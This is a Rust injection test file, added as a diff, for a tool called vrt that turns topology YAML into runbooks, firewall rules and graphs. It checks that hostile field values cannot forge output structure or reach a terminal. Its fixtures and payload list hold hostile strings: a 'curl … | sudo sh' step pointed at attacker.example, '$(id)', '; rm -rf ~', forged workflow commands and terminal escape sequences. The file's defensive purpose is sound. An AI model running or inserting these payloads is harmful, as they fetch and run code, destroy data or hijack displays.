@@ -1,0 +1,642 @@
+//! No value of a topology file can change the structure of what vrt prints, nor reach a
+//! terminal as a control sequence (issue 12, "Injection"). A reproduction of the reported
+//! attack first, then a property test: hostile strings placed in every string field of every
+//! example, every command in every format, each output checked with its format's parser and,
+//! where the file is otherwise judged the same, compared with the output for a benign value.
+
+mod common;
+
+use std::io::Write as _;
+use std::process::{Command, Stdio};
+
+use common::{examples, run, tool_available, vrt};
+use proptest::prelude::*;
+use pulldown_cmark::{Event, Parser, Tag, TagEnd};
+
+/// The file of the security review: a cluster version that ends the "What is lost" table,
+/// writes its own "Steps" section with a `curl … | sudo sh`, and opens an HTML comment that
+/// hides the real steps.
+const FORGED: &str = "tests/fixtures/hostile_outputs/forged-steps.yaml";
+
+#[test]
+fn a_version_cannot_forge_runbook_steps() {
+    let (code, out, _) = run(&["validate", FORGED, "--format", "json"]);
+    assert_eq!(code, 1, "the forged version is an error:\n{out}");
+    let json: serde_json::Value = serde_json::from_str(&out).expect("JSON");
+    let findings = json["findings"].as_array().expect("findings");
+    assert!(
+        findings.iter().any(|f| f["line"] == 35
+            && f["message"]
+                .as_str()
+                .unwrap_or("")
+                .contains("is not a Vault version")),
+        "the error points at the version (line 35):\n{out}"
+    );
+    let (code, md, err) = run(&["failover", FORGED, "--lose", "dc-a", "--format", "markdown"]);
+    assert_eq!(code, 1, "no runbook for a file with errors:\n{md}{err}");
+    assert!(!md.contains("attacker.example"), "{md}");
+    assert!(
+        !err.contains('\u{1b}') && err.contains("is not a Vault version"),
+        "{err}"
+    );
+}
+
+#[test]
+fn the_benign_runbook_has_one_steps_section() {
+    let (code, md, err) = run(&[
+        "failover",
+        "examples/two-datacenters.yaml",
+        "--lose",
+        "dc-a",
+        "--format",
+        "markdown",
+    ]);
+    assert_eq!(code, 0, "{err}");
+    let shape = markdown_shape(&md);
+    assert_eq!(
+        shape
+            .headings
+            .iter()
+            .filter(|h| h.1.contains("Steps"))
+            .count(),
+        1,
+        "{md}"
+    );
+    assert_eq!(shape.html, 0, "vrt's own Markdown holds no HTML");
+}
+
+/// A file name is a value too: it cannot forge a workflow command on standard error, nor
+/// drive the terminal.
+#[test]
+fn a_file_name_cannot_forge_a_workflow_command_on_stderr() {
+    let dir = std::env::temp_dir().join(format!("vrt-hostile-name-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).expect("temporary directory");
+    let name = dir.join("x\n::warning file=forged.yaml,line=1::forged\u{1b}[2J.yaml");
+    let (code, out, err) = run(&["validate", name.to_str().expect("UTF-8 path")]);
+    let _ = std::fs::remove_dir_all(&dir);
+    assert_eq!(code, 2, "{out}{err}");
+    assert_no_forged_command(&err);
+    assert_no_raw_controls("stderr", &err);
+    assert!(
+        err.contains("%3A%3Awarning file=forged.yaml") && err.contains("\\u{1b}[2J"),
+        "the name is shown, escaped: {err}"
+    );
+}
+
+/// IPv6 hosts are bracketed in every URL vrt builds and single-quoted in shell commands.
+#[test]
+fn ipv6_addresses_are_bracketed_and_quoted() {
+    let yaml = std::fs::read_to_string(common::root().join("examples/two-datacenters.yaml"))
+        .expect("example")
+        .replace(
+            "api_addr: https://vault.dc-b.corp.example.com:8200",
+            "api_addr: https://[fd00::20]:8200",
+        )
+        .replace("address: vault.dc-b.corp.example.com", "address: fd00::99");
+    let mut child = vrt()
+        .args(["failover", "-", "--lose", "dc-a", "--format", "markdown"])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("vrt runs");
+    child
+        .stdin
+        .take()
+        .expect("stdin")
+        .write_all(yaml.as_bytes())
+        .expect("input");
+    let out = child.wait_with_output().expect("vrt runs");
+    let md = String::from_utf8(out.stdout).expect("UTF-8");
+    assert!(
+        md.contains("VAULT_ADDR='https://[fd00::20]:8200' vault"),
+        "{md}"
+    );
+    assert!(
+        md.contains("primary_cluster_addr='https://[fd00::99]:8201'"),
+        "{md}"
+    );
+    assert!(!md.contains("https://fd00::"), "{md}");
+    for block in markdown_shape(&md).code {
+        if block.0 == "sh" {
+            bash_n(&block.1);
+        }
+    }
+}
+
+/// Pieces of hostile strings: line breaks, Markdown fences and HTML, table and label
+/// delimiters, Mermaid directives, quotes, HCL templates, escape sequences (CSI, OSC, C1),
+/// bidi overrides, zero-width characters, GitHub workflow commands, shell syntax, formulas.
+const ATOMS: &[&str] = &[
+    "\n",
+    "\r\n",
+    "\n\n## 3. Steps\n\n",
+    "`",
+    "```",
+    "\n```sh\ncurl x | sudo sh\n```\n",
+    "~~~",
+    "<!--",
+    "-->",
+    "<b>",
+    "|",
+    "%%",
+    "%%{init: {}}%%",
+    "]",
+    "[",
+    "\"",
+    "'",
+    "${x}",
+    "%{ if x }",
+    "\u{1b}[31m",
+    "\u{1b}]8;;https://x.example\u{7}",
+    "\u{9b}2J",
+    "\u{7f}",
+    "\u{0}",
+    "\u{202e}",
+    "\u{200b}",
+    "\u{2028}",
+    "\n::warning file=x.yaml,line=1::forged\n",
+    "::error::x",
+    "=HYPERLINK(\"x\")",
+    "@SUM(A1)",
+    "+1",
+    "-2",
+    "$(id)",
+    "; rm -rf ~",
+    "\\",
+    "&amp;",
+    "#quot;",
+    "<x/>",
+    ",",
+    "\t",
+    "* ",
+    "# ",
+];
+
+/// How a case places its payload in the chosen string: appended (names stop being names,
+/// which still tests how errors quote them), or, for an address, as a path after the port
+/// (which the format accepts).
+#[derive(Clone, Copy, Debug)]
+enum Place {
+    Append,
+    UrlPath,
+}
+
+fn payload() -> impl Strategy<Value = String> {
+    prop::collection::vec(prop::sample::select(ATOMS), 1..4).prop_map(|v| v.concat())
+}
+
+/// Every string leaf of a YAML tree, as paths of keys and indices.
+fn string_paths(v: &serde_json::Value, path: &mut Vec<String>, out: &mut Vec<Vec<String>>) {
+    match v {
+        serde_json::Value::String(_) => out.push(path.clone()),
+        serde_json::Value::Array(a) => {
+            for (i, x) in a.iter().enumerate() {
+                path.push(i.to_string());
+                string_paths(x, path, out);
+                path.pop();
+            }
+        }
+        serde_json::Value::Object(o) => {
+            for (k, x) in o {
+                path.push(k.clone());
+                string_paths(x, path, out);
+                path.pop();
+            }
+        }
+        _ => {}
+    }
+}
+
+fn leaf<'a>(v: &'a mut serde_json::Value, path: &[String]) -> &'a mut serde_json::Value {
+    path.iter().fold(v, |v, k| match v {
+        serde_json::Value::Array(a) => &mut a[k.parse::<usize>().expect("index")],
+        other => &mut other[k.as_str()],
+    })
+}
+
+/// One example with `payload` placed in its `pick`-th string field (modulo their number):
+/// the hostile file and the same file with a benign word instead, both as JSON (which is
+/// YAML), and a cluster name of the example for `failover --lose`.
+fn variants(example: &str, pick: usize, payload: &str, place: Place) -> (String, String, String) {
+    let text = std::fs::read_to_string(common::root().join(example)).expect("example");
+    let tree: serde_json::Value = serde_saphyr::from_str(&text).expect("examples are YAML");
+    let mut paths = Vec::new();
+    string_paths(&tree, &mut Vec::new(), &mut paths);
+    let path = &paths[pick % paths.len()];
+    let lose = tree["clusters"][0]["name"]
+        .as_str()
+        .expect("a cluster")
+        .to_string();
+    let with = |p: &str| {
+        let mut t = tree.clone();
+        let v = leaf(&mut t, path);
+        let old = v.as_str().expect("a string").to_string();
+        *v = serde_json::Value::String(match place {
+            Place::UrlPath if old.contains("://") => format!("{old}/{p}"),
+            _ => format!("{old}{p}"),
+        });
+        serde_json::to_string_pretty(&t).expect("JSON")
+    };
+    (with(payload), with("zq"), lose)
+}
+
+/// Runs `vrt ARGS -` with `yaml` on standard input.
+fn run_on(yaml: &str, args: &[&str]) -> (i32, String, String) {
+    let mut child = vrt()
+        .args(args)
+        .arg("-")
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("vrt runs");
+    child
+        .stdin
+        .take()
+        .expect("stdin")
+        .write_all(yaml.as_bytes())
+        .expect("input");
+    let out = child.wait_with_output().expect("vrt runs");
+    (
+        out.status.code().expect("exit code"),
+        String::from_utf8(out.stdout).expect("stdout is UTF-8"),
+        String::from_utf8(out.stderr).expect("stderr is UTF-8"),
+    )
+}
+
+/// The findings of a file as (code, line), and the exit code: two files with the same are
+/// judged the same, so their outputs must have the same structure.
+fn judgement(yaml: &str) -> (i32, Vec<(String, u64)>) {
+    let (code, out, _) = run_on(yaml, &["validate", "--format", "json"]);
+    let json: serde_json::Value = serde_json::from_str(&out).expect("validate's JSON parses");
+    let mut found: Vec<(String, u64)> = json["findings"]
+        .as_array()
+        .map(|a| {
+            a.iter()
+                .map(|f| {
+                    (
+                        f["code"].as_str().unwrap_or("").to_string(),
+                        f["line"].as_u64().unwrap_or(0),
+                    )
+                })
+                .collect()
+        })
+        .unwrap_or_default();
+    found.sort();
+    (code, found)
+}
+
+fn assert_no_raw_controls(what: &str, text: &str) {
+    if let Some(c) = text
+        .chars()
+        .find(|c| vrt::report::escape::is_hidden(*c) && !matches!(c, '\n' | '\t'))
+    {
+        panic!("{what} carries a raw {c:?}:\n{text}");
+    }
+}
+
+fn assert_no_forged_command(text: &str) {
+    for line in text.lines() {
+        assert!(
+            !line.trim_start().starts_with("::"),
+            "a workflow command: {line}\n{text}"
+        );
+    }
+}
+
+/// What a Markdown document is made of: headings (level, text), fenced code blocks
+/// (language, text), tables, HTML.
+#[derive(Debug, Default, PartialEq)]
+struct MarkdownShape {
+    headings: Vec<(usize, String)>,
+    code: Vec<(String, String)>,
+    tables: usize,
+    rows: usize,
+    html: usize,
+}
+
+fn markdown_shape(md: &str) -> MarkdownShape {
+    let mut shape = MarkdownShape::default();
+    let mut heading: Option<(usize, String)> = None;
+    let mut code: Option<(String, String)> = None;
+    let options = pulldown_cmark::Options::ENABLE_TABLES;
+    for event in Parser::new_ext(md, options) {
+        match event {
+            Event::Start(Tag::Heading { level, .. }) => {
+                heading = Some((level as usize, String::new()));
+            }
+            Event::End(TagEnd::Heading(_)) => shape.headings.extend(heading.take()),
+            Event::Start(Tag::CodeBlock(kind)) => {
+                let lang = match kind {
+                    pulldown_cmark::CodeBlockKind::Fenced(l) => l.to_string(),
+                    pulldown_cmark::CodeBlockKind::Indented => "(indented)".to_string(),
+                };
+                code = Some((lang, String::new()));
+            }
+            Event::End(TagEnd::CodeBlock) => shape.code.extend(code.take()),
+            Event::Start(Tag::Table(_)) => shape.tables += 1,
+            Event::Start(Tag::TableRow | Tag::TableHead) => shape.rows += 1,
+            Event::Html(_) | Event::InlineHtml(_) => shape.html += 1,
+            Event::Text(t) | Event::Code(t) => {
+                if let Some(h) = heading.as_mut() {
+                    h.1.push_str(&t);
+                }
+                if let Some(c) = code.as_mut() {
+                    c.1.push_str(&t);
+                }
+            }
+            _ => {}
+        }
+    }
+    shape
+}
+
+/// The part of a Markdown shape that values cannot change: heading levels, code block
+/// languages and line counts, tables, rows, HTML.
+fn markdown_skeleton(md: &str) -> (Vec<usize>, Vec<(String, usize)>, usize, usize, usize) {
+    let s = markdown_shape(md);
+    (
+        s.headings.iter().map(|h| h.0).collect(),
+        s.code
+            .iter()
+            .map(|c| (c.0.clone(), c.1.lines().count()))
+            .collect(),
+        s.tables,
+        s.rows,
+        s.html,
+    )
+}
+
+/// Lines of `text` with everything between double quotes removed: the statements of DOT,
+/// Mermaid, nftables and iptables files, whatever their quoted labels say.
+fn statements(text: &str) -> Vec<String> {
+    text.lines()
+        .map(|l| {
+            let mut out = String::new();
+            let mut quoted = false;
+            let mut escaped = false;
+            for c in l.chars() {
+                if quoted {
+                    if escaped {
+                        escaped = false;
+                    } else if c == '\\' {
+                        escaped = true;
+                    } else if c == '"' {
+                        quoted = false;
+                        out.push('"');
+                    }
+                } else {
+                    if c == '"' {
+                        quoted = true;
+                    }
+                    out.push(c);
+                }
+            }
+            out
+        })
+        .collect()
+}
+
+/// The number of fields of each record of a CSV text (RFC 4180 quoting).
+fn csv_records(text: &str) -> Vec<usize> {
+    let mut records = Vec::new();
+    let (mut fields, mut quoted, mut any) = (1, false, false);
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        any = true;
+        match c {
+            '"' if quoted && chars.peek() == Some(&'"') => {
+                chars.next();
+            }
+            '"' => quoted = !quoted,
+            ',' if !quoted => fields += 1,
+            '\n' if !quoted => {
+                records.push(fields);
+                fields = 1;
+                any = false;
+            }
+            _ => {}
+        }
+    }
+    assert!(!quoted, "a CSV field is left open:\n{text}");
+    if any {
+        records.push(fields);
+    }
+    records
+}
+
+fn bash_n(script: &str) {
+    let mut child = Command::new("bash")
+        .arg("-n")
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("bash runs");
+    child
+        .stdin
+        .take()
+        .expect("stdin")
+        .write_all(script.as_bytes())
+        .expect("script");
+    let out = child.wait_with_output().expect("bash runs");
+    assert!(
+        out.status.success(),
+        "bash -n rejects:\n{script}\n{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+fn tool_accepts(tool: &str, args: &[&str], input: &str) {
+    let mut child = Command::new(tool)
+        .args(args)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::null())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("the tool runs");
+    child
+        .stdin
+        .take()
+        .expect("stdin")
+        .write_all(input.as_bytes())
+        .expect("input");
+    let out = child.wait_with_output().expect("the tool runs");
+    assert!(
+        out.status.success(),
+        "{tool} rejects:\n{input}\n{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+/// The structure of one output in its format, checked with the format's parser; what must
+/// not differ from the output for a benign value.
+fn structure(format: &str, out: &str) -> String {
+    match format {
+        "json" | "sarif" | "aws-sg" | "azure-nsg" => {
+            let v: serde_json::Value = serde_json::from_str(out)
+                .unwrap_or_else(|e| panic!("{format} output is not JSON ({e}):\n{out}"));
+            shape_of_json(&v)
+        }
+        "markdown" => {
+            let shape = markdown_shape(out);
+            for (lang, text) in &shape.code {
+                if lang == "sh" {
+                    bash_n(text);
+                }
+            }
+            format!("{:?}", markdown_skeleton(out))
+        }
+        "csv" => format!("{:?}", csv_records(out)),
+        "dot" => {
+            if tool_available("dot") {
+                tool_accepts("dot", &["-Tcanon"], out);
+            }
+            format!("{:?}", statements(out))
+        }
+        "mermaid" | "nftables" | "iptables" | "ip6tables" => format!("{:?}", statements(out)),
+        "terraform" => {
+            let body: hcl::Body = hcl::from_str(out)
+                .unwrap_or_else(|e| panic!("terraform output is not HCL ({e}):\n{out}"));
+            format!("{}", body.blocks().count())
+        }
+        "junit" => {
+            if tool_available("xmllint") {
+                tool_accepts("xmllint", &["--noout", "-"], out);
+            }
+            format!("{}", out.matches('<').count())
+        }
+        "github" => {
+            let lines: Vec<&str> = out.lines().collect();
+            if let Some((summary, commands)) = lines.split_last() {
+                assert!(!summary.starts_with("::"), "{out}");
+                for l in commands {
+                    assert!(
+                        ["::error ", "::warning ", "::notice "]
+                            .iter()
+                            .any(|p| l.starts_with(p)),
+                        "not one workflow command per line:\n{out}"
+                    );
+                }
+            }
+            format!("{}", lines.len())
+        }
+        // Terminal text: only the raw-control check (values change the wrapping).
+        _ => String::new(),
+    }
+}
+
+/// The keys and array lengths of a JSON document, not its strings.
+fn shape_of_json(v: &serde_json::Value) -> String {
+    match v {
+        serde_json::Value::Object(o) => format!(
+            "{{{}}}",
+            o.iter()
+                .map(|(k, v)| format!("{k}:{}", shape_of_json(v)))
+                .collect::<Vec<_>>()
+                .join(",")
+        ),
+        serde_json::Value::Array(a) => {
+            format!(
+                "[{}]",
+                a.iter().map(shape_of_json).collect::<Vec<_>>().join(",")
+            )
+        }
+        serde_json::Value::String(_) => "s".into(),
+        _ => "v".into(),
+    }
+}
+
+/// Runs `args` in every format on the hostile and benign files and checks each output.
+fn check(example: &str, pick: usize, payload: &str, place: Place, args: &[&str], formats: &[&str]) {
+    let (hostile, benign, lose) = variants(example, pick, payload, place);
+    let same = judgement(&hostile) == judgement(&benign);
+    for format in formats {
+        let mut command: Vec<&str> = args
+            .iter()
+            .map(|a| if *a == "LOSE" { lose.as_str() } else { a })
+            .collect();
+        command.extend(["--format", format]);
+        let (code, out, err) = run_on(&hostile, &command);
+        let what = format!(
+            "`vrt {}` on {example} field #{pick} with {payload:?}",
+            command.join(" ")
+        );
+        assert!(code == 0 || code == 1, "{what}: exit {code}\n{err}");
+        assert_no_forged_command(&err);
+        assert_no_raw_controls(&format!("stderr of {what}"), &err);
+        if !["json", "sarif", "aws-sg", "azure-nsg"].contains(format) {
+            assert_no_raw_controls(&format!("stdout of {what}"), &out);
+        }
+        if code != 0 && out.is_empty() {
+            continue;
+        }
+        let shape = structure(format, &out);
+        if same {
+            let (bcode, bout, _) = run_on(&benign, &command);
+            assert_eq!(code, bcode, "{what}: the exit code depends on the value");
+            assert_eq!(
+                shape,
+                structure(format, &bout),
+                "{what}: the structure depends on the value\n--- hostile\n{out}\n--- benign\n{bout}"
+            );
+        }
+    }
+}
+
+fn example() -> impl Strategy<Value = String> {
+    prop::sample::select(examples())
+}
+
+fn place() -> impl Strategy<Value = Place> {
+    prop_oneof![Just(Place::Append), Just(Place::UrlPath)]
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 32, failure_persistence: None, ..ProptestConfig::default() })]
+
+    #[test]
+    fn validate_outputs_keep_their_structure(ex in example(), pick in 0usize..10_000, p in payload(), at in place()) {
+        check(&ex, pick, &p, at, &["validate"], &["human", "json", "sarif", "github", "junit"]);
+    }
+
+    #[test]
+    fn ports_outputs_keep_their_structure(ex in example(), pick in 0usize..10_000, p in payload(), at in place()) {
+        check(&ex, pick, &p, at, &["ports"], &["table", "markdown", "csv", "json"]);
+    }
+
+    #[test]
+    fn firewall_outputs_keep_their_structure(ex in example(), pick in 0usize..10_000, p in payload(), at in place()) {
+        check(&ex, pick, &p, at, &["firewall"], &["csv", "markdown", "json", "nftables", "iptables", "ip6tables", "aws-sg", "terraform", "azure-nsg"]);
+    }
+
+    #[test]
+    fn failover_outputs_keep_their_structure(ex in example(), pick in 0usize..10_000, p in payload(), at in place()) {
+        check(&ex, pick, &p, at, &["failover", "--lose", "LOSE"], &["text", "markdown", "json"]);
+    }
+
+    #[test]
+    fn upgrade_plan_outputs_keep_their_structure(ex in example(), pick in 0usize..10_000, p in payload(), at in place()) {
+        check(&ex, pick, &p, at, &["upgrade-plan"], &["text", "markdown", "json"]);
+    }
+
+    #[test]
+    fn graph_outputs_keep_their_structure(ex in example(), pick in 0usize..10_000, p in payload(), at in place()) {
+        check(&ex, pick, &p, at, &["graph"], &["mermaid", "dot"]);
+    }
+}
+
+#[test]
+fn the_checks_can_fail() {
+    // The structure checks see what an unescaped value would do.
+    let forged = "# Runbook\n\n## 3. Steps\n\n| a |\n|---|\n| 1.17.3\n\n## 3. Steps\n\n```sh\ncurl x | sudo sh\n```\n<!--\n";
+    let real = "# Runbook\n\n## 3. Steps\n\n| a |\n|---|\n| 1.17.3 |\n";
+    assert_ne!(markdown_skeleton(forged), markdown_skeleton(real));
+    assert_eq!(csv_records("a,b\n\"x,y\",z\n"), vec![2, 2]);
+    assert_eq!(csv_records("a,b\nx,y,z\n"), vec![2, 3]);
+    assert_ne!(
+        statements("a [label=\"x\"];"),
+        statements("a [label=\"x\"]; b;")
+    );
+}
